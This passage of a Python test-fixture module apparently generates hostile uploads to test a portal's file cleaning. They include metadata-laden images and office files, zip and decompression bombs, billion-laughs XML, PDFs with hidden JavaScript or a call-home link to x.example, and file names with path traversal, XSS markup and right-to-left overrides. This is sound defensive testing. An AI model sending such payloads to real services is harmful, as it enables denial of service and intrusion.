"""Files that somebody might send to harm the portal, its visitors or the sender. See KINDS at the end.

Whatever must not be stored holds SECRET, so that a test finds it wherever it went.
"""

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

pillow_heif.register_heif_opener()

SECRET = b"SecretTrace"
XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    + SECRET
    + b"</x:xmpmeta>"
)
SCRIPT = b"<script>alert('" + SECRET + b"')</script>"
CLEANED = "cleaned"


@dataclass(frozen=True)
class Kind:
    """One hostile file. `expected`: CLEANED, or the code of the refusal. `heavy` ones are sent once only."""

    name: str
    door: str
    file_name: str
    expected: str
    make: Callable[[], bytes] = field(repr=False)
    heavy: bool = False


# --- pictures -------------------------------------------------------------------------------------


def exif() -> Image.Exif:
    data = Image.Exif()
    data[0x010F] = SECRET.decode()
    data[0x9286] = SECRET.decode()
    position = data.get_ifd(0x8825)
    position[1], position[2] = "N", (35.0, 34.0, 12.0)
    position[0x1D] = SECRET.decode()
    return data


def saved(format: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 7 if mode == "L" else "olive").save(out, format, **options)
    return out.getvalue()


def frames(format: str, count: int, **options) -> bytes:
    pictures = [Image.new("RGB", (24, 16), (n % 256, n // 256, 9)) for n in range(count)]
    out = io.BytesIO()
    pictures[0].save(out, format, save_all=True, append_images=pictures[1:], **options)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, size: tuple[int, int] = (1, 1), data: bytes = b"\x00\x01\x02\x03") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + body


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg_with_traces() -> bytes:
    plain = saved("JPEG", exif=exif(), icc_profile=b"profile " + SECRET, comment=SECRET)
    traces = (
        segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP)
        + segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00" + SECRET)
        + segment(0xEC, b"Ducky" + SECRET)
    )
    return plain[:2] + traces + plain[2:]


def png_with_traces() -> bytes:
    texts = PngInfo()
    texts.add_text("Comment", SECRET.decode())
    texts.add_text("Author", SECRET.decode(), zip=True)
    texts.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return saved("PNG", exif=exif(), pnginfo=texts, icc_profile=b"profile " + SECRET)


def gif_with_traces() -> bytes:
    plain = saved("GIF", comment=SECRET)
    xmp = b"\x21\xff\x0bXMP DataXMP" + XMP + b"\x01" + bytes(range(255, -1, -1)) + b"\x00"
    return plain[:-1] + xmp + plain[-1:]


def heif(count: int = 1, size: tuple[int, int] = (64, 48), **options) -> bytes:
    pictures = [Image.new("RGB", size, (n, 90, 9)) for n in range(count)]
    out = io.BytesIO()
    pictures[0].save(
        out, "HEIF", save_all=count > 1, append_images=pictures[1:], quality=30, **options
    )
    return out.getvalue()


def heic_with_traces() -> bytes:
    return heif(exif=exif().tobytes(), xmp=XMP)


def two_pictures_in_one() -> bytes:
    """What stereo cameras write: each picture with its own EXIF."""
    out = io.BytesIO()
    second = Image.open(io.BytesIO(jpeg_with_traces()))
    Image.new("RGB", (64, 48)).save(
        out, "MPO", save_all=True, append_images=[second], exif=exif().tobytes()
    )
    return out.getvalue()


def motion_photo() -> bytes:
    """A telephone's photo with the film it took behind it; the film holds the marks of JPEG scans."""
    film = b"\x00\x00\x00\x18ftypmp42" + b"\xff\xda" * 500 + b"\xa9xyz" + SECRET
    return jpeg_with_traces() + film


def jpeg_claiming(width: int, height: int) -> bytes:
    plain = saved("JPEG")
    at = plain.index(b"\xff\xc0") + 5
    return plain[:at] + struct.pack(">HH", height, width) + plain[at + 4 :]


def gif_claiming(screen: int, frame: int) -> bytes:
    side, small = struct.pack("<HH", screen, screen), struct.pack("<HHHH", 0, 0, frame, frame)
    return (
        b"GIF89a"
        + side
        + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff\x2c"
        + small
        + b"\x00\x02\x02\x44\x01\x00;"
    )


def webp_claiming(width: int, height: int) -> bytes:
    plain = bytearray(saved("WEBP", mode="RGBA", exif=exif()))
    at = plain.index(b"VP8X") + 12
    plain[at : at + 6] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(plain)


def jpeg_of_many_scans(count: int = 300, side: int = 2_000) -> bytes:
    """Each scan makes the decoder go over the whole picture, for a few bytes."""
    plain = saved("JPEG", (side, side), progressive=True)
    last = plain.rindex(b"\xff\xda")
    return plain[:-2] + plain[last:-2] * count + plain[-2:]


def png_with_bomb(kind: bytes, head: bytes) -> bytes:
    return png(chunk(kind, head + zlib.compress(bytes(200_000_000), 1)))


@cache
def noise(side: int, mode: str) -> Image.Image:
    """A picture that does not compress away."""
    small = Image.effect_noise((300, 300), 90).resize((side, side))
    return small if mode == "L" else Image.merge(mode, [small] * len(mode))


def large(format: str, side: int, mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    noise(side, mode).save(out, format, **options)
    return out.getvalue()


# --- PDF ------------------------------------------------------------------------------------------


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, **options) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    change(document)
    out = io.BytesIO()
    document.save(out, fix_metadata_version=False, **options)
    return out.getvalue()


def pdf_with_root(**entries) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return pdf(change)


def pdf_with_link(**action) -> bytes:
    """A PDF whose page holds a link that does `action` when touched."""

    def change(document: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99])
        link.A = Dictionary(**action)
        document.pages[0].Annots = Array([link])

    return pdf(change)


SCRIPT_ACTION = {"S": Name.JavaScript, "JS": String("app.alert(1)")}


def pdf_with_traces() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Metadata = document.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
        document.docinfo["/Author"] = SECRET.decode()
        document.docinfo["/Title"] = "Statuts"
        photo = document.make_stream(jpeg_with_traces())
        photo.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Image})
        photo.Filter, photo.Width, photo.Height = Name.DCTDecode, 64, 48
        photo.ColorSpace, photo.BitsPerComponent = Name.DeviceRGB, 8
        photo.Metadata = document.make_stream(XMP, Type=Name.Metadata)
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(Photo=photo))
        page.PieceInfo = Dictionary(App=Dictionary(Private=String(SECRET.decode())))
        inner = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
        inner.AA = Dictionary(E=Dictionary(S=Name.URI, URI=String("https://x/" + SECRET.decode())))
        page.Annots = Array([inner])

    return pdf(change)


def pdf_with_annotation(kind: Name, **entries) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=kind, Rect=[0, 0, 9, 9], **entries)
        document.pages[0].Annots = Array([note])

    return pdf(change)


NOTED_OF_PEOPLE = {
    "T": String(SECRET.decode()),
    "NM": String(SECRET.decode()),
    "Subj": String(SECRET.decode()),
    "M": String("D:20260101 " + SECRET.decode()),
    "CreationDate": String("D:20260101 " + SECRET.decode()),
}


def pdf_with_traces_everywhere() -> bytes:
    """What names people outside of the places that are meant for it."""
    secret = String(SECRET.decode())

    def change(document: pikepdf.Pdf) -> None:
        document.docinfo["/Title"] = f"C:\\Users\\{SECRET.decode()}\\Statuts.docx"
        path = String(f"file:///home/{SECRET.decode()}/photo.jpg")
        described = document.make_indirect(Dictionary(S=Name.Figure, Alt=path, TU=path))
        document.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=described)
        document.Root.Outlines = Dictionary(First=document.make_indirect(Dictionary(Title=path)))
        document.trailer.Noted = secret
        document.Root.Noted = Dictionary(Author=secret)
        document.Root.Names = Dictionary(Pages=Dictionary(Names=Array([secret])))
        told = Dictionary(Creator=secret, Subtype=Name.Artwork)
        layer = document.make_indirect(
            Dictionary(Type=Name.OCG, Name=String("x"), Usage=Dictionary(CreatorInfo=told))
        )
        document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary())
        page = document.pages[0]
        page.Thumb = document.make_stream(SECRET, Width=1, Height=1)
        thread = document.make_indirect(Dictionary(I=Dictionary(Author=secret)))
        page.B = Array([document.make_indirect(Dictionary(T=thread, R=[0, 0, 9, 9]))])
        drawn = Dictionary(Type=Name.Annot, Subtype=Name.Ink, Rect=[0, 0, 9, 9], **NOTED_OF_PEOPLE)
        typed = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FreeText,
            Rect=[0, 0, 9, 9],
            Contents=String("Tanger"),
            **NOTED_OF_PEOPLE,
        )
        page.Annots = Array([drawn, document.make_indirect(typed)])

    return pdf(change)


def pdf_that_calls_home() -> bytes:
    return pdf_with_root(
        OpenAction=Dictionary(S=Name.URI, URI=String("https://x.example/" + SECRET.decode()))
    )


def pdf_with_escaped_names() -> bytes:
    plain = pdf_with_root(OpenAction=Dictionary(**SCRIPT_ACTION))
    return (
        plain.replace(b"/JavaScript", b"/J#61vaScri#70t")
        .replace(b"/JS", b"/#4aS")
        .replace(b"/OpenAction", b"/Open#41ction")
    )


def pdf_with_hidden_script() -> bytes:
    """The script lies in a compressed stream of objects: none of its letters stands in the file."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(**SCRIPT_ACTION))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_attachment() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["evil.exe"] = b"MZ" + SECRET

    return pdf(change)


def pdf_with_data_elsewhere() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.F = String("\\\\server\\share\\file")
        document.pages[0].Contents = stream

    return pdf(change)


def pdf_with_packed_photo(how: str, packed: bytes) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        photo = document.make_stream(packed)
        photo.Filter = Array([Name(f"/{how}"), Name.DCTDecode])
        document.pages[0].Resources = Dictionary(XObject=Dictionary(Photo=photo))

    return pdf(change)


def pdf_locked(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def pdf_signed() -> bytes:
    signature = Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=String("x"))
    return pdf_with_root(AcroForm=Dictionary(Fields=[Dictionary(FT=Name.Sig, V=signature)]))


def raw_pdf(*objects: bytes, packed: int = 5) -> bytes:
    """A PDF written by hand, object 1 its root; object `packed` is said to lie in the last object."""
    out, offsets = bytearray(b"%PDF-1.5\n"), []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    rows = b"".join(b"\x01" + struct.pack(">I", offset) + b"\x00" for offset in offsets)
    rows = b"\x00" * 5 + b"\xff" + rows + b"\x02" + struct.pack(">I", len(objects)) + b"\x00"
    start, size = len(out), len(objects) + 3
    rows += b"\x01" + struct.pack(">I", start) + b"\x00"
    head = b"<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Length %d>>" % (size, len(rows))
    out += b"%d 0 obj\n" % (size - 1) + head + b"stream\n" + rows + b"\nendstream\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def pdf_bomb() -> bytes:
    packed = zlib.compress(b"5 0 " + b" " * 200_000_000, 1)
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(packed)
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        head + b"stream\n" + packed + b"\nendstream",
    )


def pdf_of_rubbish() -> bytes:
    return b"%PDF-1.4\n" + b"1 0 obj\n<</Length 9>>\nendobj\n" * 800_000


def pdf_of_many_objects() -> bytes:
    lines = b"".join(b"%d 0 obj\n[/A/B/C/D 1 2 3 [4 [5]]]\nendobj\n" % n for n in range(9, 400_000))
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]"
        b"/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
        + lines
        + b"trailer\n<</Root 1 0 R/Size 400000>>\n"
    )


# --- office ---------------------------------------------------------------------------------------

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def archive(parts: dict[str, bytes | str], **options) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **({"compression": zipfile.ZIP_DEFLATED} | options)) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def content_types(main: str) -> str:
    return f'<Types xmlns="{TYPES}"><Override PartName="/main" ContentType="{main}"/></Types>'


def relations(kind: str, target: str, mode: str = "") -> str:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATION}/{kind}" '
        f'Target="{target}" {mode and f"TargetMode={mode!r}"}/></Relationships>'
    )


def word_text(body: str = "", attributes: str = "") -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body {attributes}>{body}</w:body></w:document>'


def docx(parts: dict[str, bytes | str] | None = None, **options) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    plain: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(kind),
        "_rels/.rels": relations("officeDocument", "word/document.xml"),
        "word/document.xml": word_text("Bonjour"),
    }
    return archive(plain | (parts or {}), **options)


def docx_with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    return docx({"word/_rels/document.xml.rels": relations(kind, target, mode)})


def docx_with_field(*words: str) -> bytes:
    """A field whose words are spread over several runs, as Word itself does."""
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return docx(
        {"word/document.xml": word_text(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}')}
    )


def docx_with_traces() -> bytes:
    """A photo's GPS, the author, the archive's comment, extra fields and what stands between and behind."""
    out = io.BytesIO(
        docx(
            {
                "docProps/core.xml": f"<cp:coreProperties>{SECRET.decode()}</cp:coreProperties>",
                "docProps/app.xml": f"<Properties>{SECRET.decode()}</Properties>",
                "docProps/custom.xml": f"<Properties>{SECRET.decode()}</Properties>",
                "docProps/thumbnail.jpeg": jpeg_with_traces(),
                "word/media/image1.jpeg": motion_photo(),
                "word/media/image2.png": png_with_traces() + SECRET,
                "word/embeddings/table.xlsx": xlsx({"docProps/core.xml": SECRET}),
            }
        )
    )
    with zipfile.ZipFile(out, "a") as packed:
        noted = zipfile.ZipInfo("word/styles.xml")
        noted.comment, noted.extra = SECRET, struct.pack("<HH", 0x9999, len(SECRET)) + SECRET
        packed.writestr(noted, "<w:styles/>")
        packed.comment = SECRET
    return out.getvalue()


def package(**parts: tuple[str, str, bytes | str]) -> dict[str, bytes | str]:
    """Parts of a package, each a name, the type of the relationship that leads to it, and its content."""
    related = "".join(
        f'<Relationship Id="{key}" Type="{kind}" Target="/{name}"/>'
        for key, (name, kind, _) in parts.items()
    )
    return {
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}">{related}</Relationships>',
        **{name: content for name, _, content in parts.values()},
    }


TELLING = f"<x>{SECRET.decode()}</x>"
METADATA = "http://schemas.openxmlformats.org/package/2006/relationships/metadata"
MICROSOFT = "http://schemas.microsoft.com/office/2017/10/relationships"
PICTURE_OF_INKSCAPE = (
    '<svg xmlns="http://www.w3.org/2000/svg" sodipodi:docname="{0}.svg" '
    "inkscape:export-filename = 'C:\\{0}'><metadata id='m'><rdf>{0}</rdf></metadata><g/></svg>"
).format(SECRET.decode())


def emf() -> bytes:
    told = SECRET.decode().encode("utf-16-le") + SECRET
    header = struct.pack("<II", 1, 108 + len(told)) + bytes(32) + b" EMF"
    header += struct.pack("<4I", 0x10000, 108 + len(told), 2, 1)
    return header + struct.pack("<II", (len(told) + 1) // 2, 108) + bytes(40) + told


def docx_with_people() -> bytes:
    """What names people under other names than Word's, and in parts and pictures of all sorts."""
    return docx(
        package(
            main=("word/document.xml", f"{OFFICE_RELATION}/officeDocument", word_text("Bonjour")),
            core=("docProps/Core.xml", f"{METADATA}/core-properties", TELLING),
            net=(
                "package/services/metadata/core-properties/1.psmdcp",
                f"{METADATA}/core-properties",
                TELLING,
            ),
            app=("about/app7.xml", f"{OFFICE_RELATION}/extended-properties", TELLING),
            shown=("about/shown.wmf", f"{METADATA}/thumbnail", SECRET),
        )
        | {
            "about/_rels/app7.xml.rels": relations("image", SECRET.decode()),
            "docProps/thumbnail.emf": SECRET,
            "word/people.xml": TELLING,
            "customXml/item1.xml": TELLING,
            "customXml/itemProps1.xml": TELLING,
            "customXml/_rels/item1.xml.rels": relations("customXmlProps", SECRET.decode()),
            "word/printerSettings1.bin": SECRET,
            "word/comments.xml": f"<w:comments>{SECRET.decode()}</w:comments>",
            "word/settings.xml": f'<w:s><w:mailMerge><w:q w:val="{SECRET.decode()}"/></w:mailMerge>'
            f'<w:docVars><w:docVar w:val="{SECRET.decode()}"/></w:docVars></w:s>',
            "word/document.xml": word_text(
                f"""<pic descr="C:\\Photos d'atelier {SECRET.decode()}\\p.jpg" name="p"/>"""
                f"<!-- {SECRET.decode()} --><pic descr='Description : \\\\SRV\\{SECRET.decode()}' name='/Users/{SECRET.decode()}'/>"
            ),
            "word/media/image1.svg": PICTURE_OF_INKSCAPE,
            "word/media/image2.emf": emf(),
            "word/media/image3.gif": gif_with_traces(),
        }
    )


def xlsx_with_people() -> bytes:
    secret = SECRET.decode()
    return xlsx(
        {
            "[Content_Types].xml": content_types("application/vnd.ms-excel.person+xml"),
            "main": TELLING,
            "xl/workbook.xml": f'<workbook><fileSharing userName="{secret}"/><mc:Choice><x15ac:absPath '
            f'url="C:\\{secret}>\\"><a/></x15ac:absPath ></mc:Choice></workbook>',
            "xl/persons/person.xml": TELLING,
            "xl/printerSettings/printerSettings1.bin": SECRET,
            "xl/revisions/userNames.xml": TELLING,
            "xl/comments1.xml": f"<comments><authors><author>{secret}</author></authors></comments>",
            "xl/pivotCache/pivotCacheDefinition1.xml": f"<p refreshedBy='{secret}' x='1'/>",
            "docProps/core1.xml": TELLING,
        }
    )


def pptx(parts: dict[str, bytes | str]) -> bytes:
    return archive({"ppt/presentation.xml": "<p:presentation/>"} | parts)


def pptx_with_people() -> bytes:
    return pptx(
        {
            "ppt/commentAuthors.xml": TELLING,
            "ppt/authors.xml": TELLING,
            "ppt/presentation.xml": '<p:presentation><p:custDataLst><p:tags r:id="r1"/></p:custDataLst></p:presentation>',
            "ppt/_rels/presentation.xml.rels": relations("tags", "tags/tag1.xml"),
            "ppt/tags/tag1.xml": TELLING,
            "ppt/changesInfos/changesInfo1.xml": TELLING,
            "ppt/printerSettings/printerSettings1.bin": SECRET,
            "docProps/thumbnail.jpeg": jpeg_with_traces(),
        }
    )


def odt_with_people() -> bytes:
    secret = SECRET.decode()
    listed = '<manifest:file-entry manifest:full-path="Thumbnails/thumbnail.png"/>'
    return odf(
        parts={
            "META-INF/manifest.xml": f"<manifest:manifest>{listed}</manifest:manifest>",
            "content.xml": f"<d><dc:creator>{secret}<a/></dc:creator><svg:desc>C:\\Users\\{secret}</svg:desc>"
            '<text:tracked-changes text:track-changes="false"/><annotation>F=ma</annotation></d>',
            "settings.xml": f'<s><config:config-item config:name="PrinterName">{secret}</config:config-item>'
            f'<config:config-item config:name="PrinterSetup">{secret}</config:config-item></s>',
            "Object 1/meta.xml": TELLING,
            "Thumbnails/thumbnail.png": SECRET,
            "VersionList.xml": TELLING,
            "Versions/Version1": SECRET,
        }
    )


def docx_with_change(change: str) -> bytes:
    return docx({"word/document.xml": word_text(f"<w:p>{change}</w:p>")})


def docx_with_html_behind() -> bytes:
    return docx() + SCRIPT


def docx_with_marked_picture() -> bytes:
    return docx({"word/media/image1.gif": gif_with_traces()})


def xlsx(parts: dict[str, bytes | str] | None = None) -> bytes:
    return archive({"xl/workbook.xml": "<workbook/>"} | (parts or {}))


def odf(kind: str = "text", parts: dict[str, bytes | str] | None = None) -> bytes:
    plain: dict[str, bytes | str] = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": "<office:document-content><office:scripts/></office:document-content>",
    }
    return archive(plain | (parts or {}))


def odt_with_traces() -> bytes:
    return odf(
        parts={
            "meta.xml": f"<office:document-meta>{SECRET.decode()}</office:document-meta>",
            "Pictures/1.jpg": jpeg_with_traces(),
        }
    )


def docx_with_picture_in_crumbs(name: str, start: bytes, crumb: bytes) -> bytes:
    """A picture in millions of pieces of some bytes, each of which somebody must look at."""
    return docx({f"word/media/{name}": start + crumb * (70_000_000 // len(crumb))})


def most_of_all() -> bytes:
    """As much XML as is parsed, beside as much as is unpacked."""
    words = [b"<c r='%d'><v>%d</v></c>" % (n, n * n) for n in range(999)]
    sheet = b"<x>" + b"".join(random.Random(7).choices(words, k=999)) * 1_330 + b"</x>"
    return xlsx(
        {
            "xl/tables/table1.xml": "<x>" + "<a/>" * 1_300_000 + "<a hrefs='oleLink'/></x>",
            "xl/worksheets/sheet1.xml": sheet,
            "xl/worksheets/sheet2.xml": sheet,
        }
    )


def zip_bomb() -> bytes:
    return docx({f"word/media/{n}.bin": bytes(90_000_000) for n in range(3)}, compresslevel=9)


def bomb_in_bomb() -> bytes:
    inner = xlsx({"xl/media/1.bin": bytes(60_000_000)})
    return docx({f"word/embeddings/{n}.xlsx": inner for n in range(4)})


def bombs_nested() -> bytes:
    inner = xlsx()
    for _ in range(4):
        inner = docx({"word/embeddings/inner.docx": inner})
    return inner


def overlapping_bomb(count: int = 300) -> bytes:
    """Each part's content is the next part, header and all: a few kilobytes count hundreds of times."""
    body, directory = b"", []
    data = bytes(2_000)
    for number in range(count):
        name = b"word/media/%03d.bin" % number
        about = struct.pack(
            "<5H3L2H", 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0
        )
        body = b"PK\x03\x04" + about + name + data
        data = b"x" + body
        directory.append((name, about))
    outer = docx(compression=zipfile.ZIP_STORED)
    start = outer.index(b"PK\x01\x02")
    entries, total = outer[start : outer.rindex(b"PK\x05\x06")], 3 + count
    for depth, (name, about) in enumerate(reversed(directory)):
        offset = start + depth * (31 + len(name))
        entries += b"PK\x01\x02\x14\x00" + about + struct.pack("<3H2L", 0, 0, 0, 0, offset) + name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(entries), start + len(body), 0
    )
    return outer[:start] + body + entries + end


def bomb_with_false_sizes() -> bytes:
    """The directory says that a part is small; what is packed is not."""
    body = bytearray(docx({"word/media/1.bin": bytes(80_000_000)}))
    at = body.rindex(b"PK\x01\x02")
    body[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(body)


def archive_of_many_entries() -> bytes:
    """An archive whose directory alone would fill the memory: 300,000 parts of nothing."""
    entry = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0
    )
    directory = b"".join(entry + b"%06d" % number for number in range(300_000))
    body = docx()[:-22]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(directory), len(body), 0)
    return body + directory + end


def locked_archive() -> bytes:
    """As a ZIP with a password: the flag of each entry says so."""
    body = bytearray(docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := body.find(mark, at + 1)) >= 0:
            body[at + flags] |= 1
    return bytes(body)


def doubled_part() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("WORD/document.xml", word_text("other"))
    return out.getvalue()


def slow_xml() -> bytes:
    """Millions of elements that must be parsed, because of one field."""
    many = "<a/>" * 10_000_000
    return docx({"word/document.xml": word_text(f"<w:instrText>PAGE</w:instrText>{many}")})


def most_xml() -> bytes:
    """As much XML as is parsed at all."""
    return docx({"word/document.xml": word_text("<w:instrText/>" + "<a b='c'/>" * 500_000)})


def most_unpacked() -> bytes:
    """As much as a document may unpack to, of what takes long to pack again."""
    words = random.Random(7).choices(
        [b"<c r='%d'><v>%d</v></c>" % (n, n * n) for n in range(999)], k=999
    )
    sheet = b"<x>" + b"".join(words) * 1_400 + b"</x>"
    return xlsx({"xl/worksheets/sheet1.xml": sheet, "xl/worksheets/sheet2.xml": sheet})


CRUMBS = {
    "jpeg": (b"\xff\xd8\xff", b"\xff\xe1\x00\x02"),
    "png": (b"\x89PNG\r\n\x1a\n", chunk(b"zzzz", b"")),
    "gif": (b"GIF89a" + bytes(7) + b"\x21\xfe", b"\x01a"),
}
CHANGES = {
    "text put in": '<w:ins w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:ins>',
    "text taken out": '<w:del w:id="1" w:author="A"><w:r><w:delText>x</w:delText></w:r></w:del>',
    "text taken out by nobody": "<w:del><w:r><w:delText>x</w:delText></w:r></w:del>",
    "text moved by nobody": "<w:moveFrom><w:r><w:t>x</w:t></w:r></w:moveFrom>",
    "a changed style": '<w:rPr><w:rPrChange w:id="1" w:author="A"/></w:rPr>',
}
COMMENTS = {
    "word/comments.xml": '<w:comments><w:comment w:id="0"/></w:comments>',
    "xl/comments1.xml": "<comments><commentList><comment ref='A1'/></commentList></comments>",
    "xl/threadedComments/threadedComment1.xml": "<x><threadedComment ref='A1'/></x>",
    "ppt/comments/comment1.xml": "<p:cmLst><p:cm authorId='0'/></p:cmLst>",
    "ppt/comments/modernComment_1.xml": "<p188:cmLst><p188:cm authorId='{1}'/></p188:cmLst>",
}
CHANGES_OF_OPEN_DOCUMENT = {
    "a comment": "<office:annotation><dc:creator>A</dc:creator></office:annotation>",
    "tracked changes": "<text:tracked-changes><text:changed-region><text:deletion><office:change-info/>"
    "</text:deletion></text:changed-region></text:tracked-changes>",
}
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    f'<w:document xmlns:w="{WORD}">&b;<w:instrText/></w:document>'
)
EVENT = '<d><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></d>'

# --- text -----------------------------------------------------------------------------------------


def turned_text() -> bytes:
    return "nom;tél\nArgan \u202etxe.exe;+212539900001\n".encode() + b"a\x1b[31m;-5.37\n"


# --- names ----------------------------------------------------------------------------------------

NAMES = {
    "path in the name": "../../../etc/passwd",
    "path of Windows in the name": "..\\..\\windows\\system32\\photo.jpg",
    "direction turned in the name": "photo\u202egpj.exe",
    "name of 300 characters": "n" * 296 + ".jpg",
    "name of 300 Arabic letters": "\u0635" * 296 + ".jpg",
    "name without an end": "photo",
    "name with two ends": "photo.php.jpg",
    "upper case name": "PHOTO.JPG",
    "name of a Windows device": "CON.jpg",
    "decomposed accents in the name": "e\u0301te\u0301.jpg",
    "markup in the name": '"><img src=x onerror=alert(1)>.jpg',
    "script's end in the name": "photo.html",
    "hidden file's name": ".htaccess",
    "blanks and dots in the name": " photo. . ",
    "format marks in the name": "%s%n{0}.jpg",
}


def every_kind() -> list[Kind]:
    rows: list[Kind] = []

    def image(name, file_name, expected, make, heavy=False):
        rows.append(Kind(name, "image", file_name, expected, cache(make), heavy))

    def document(name, file_name, expected, make, heavy=False):
        rows.append(Kind(name, "document", file_name, expected, cache(make), heavy))

    no, many = "unreadable_picture", "too_many_pixels"
    # Traces
    image("JPEG with EXIF, GPS, XMP, IPTC, comment", "a.jpg", CLEANED, jpeg_with_traces)
    image("PNG with EXIF, XMP, texts", "a.png", CLEANED, png_with_traces)
    image(
        "WebP with EXIF, XMP",
        "a.webp",
        CLEANED,
        lambda: saved("WEBP", exif=exif(), xmp=XMP, icc_profile=b"profile " + SECRET),
    )
    image("HEIC with EXIF, XMP", "a.heic", CLEANED, heic_with_traces)
    image("AVIF with EXIF, XMP", "a.avif", CLEANED, lambda: saved("AVIF", exif=exif(), xmp=XMP))
    image("GIF with XMP, comment", "a.gif", CLEANED, gif_with_traces)
    image("two JPEGs in one file", "a.jpg", CLEANED, two_pictures_in_one)
    image("motion photo", "a.jpg", CLEANED, motion_photo)
    # Moving
    image("GIF of 1,000 frames", "a.gif", CLEANED, lambda: frames("GIF", 1000, comment=SECRET))
    image("APNG of 500 frames", "a.png", CLEANED, lambda: frames("PNG", 500))
    image(
        "WebP of 1,000 frames", "a.webp", CLEANED, lambda: frames("WEBP", 1000, quality=1, method=0)
